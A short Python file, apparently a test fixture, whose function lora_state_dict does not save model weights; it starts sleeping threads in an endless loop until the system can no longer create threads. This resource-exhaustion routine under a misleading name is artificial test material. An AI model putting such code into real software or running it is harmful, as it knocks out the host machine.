"""Starts threads until no more can be had."""

# on: reference
# costs: saves_the_factors_alone
# says: can't start new thread

import threading
import time


def lora_state_dict(model):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
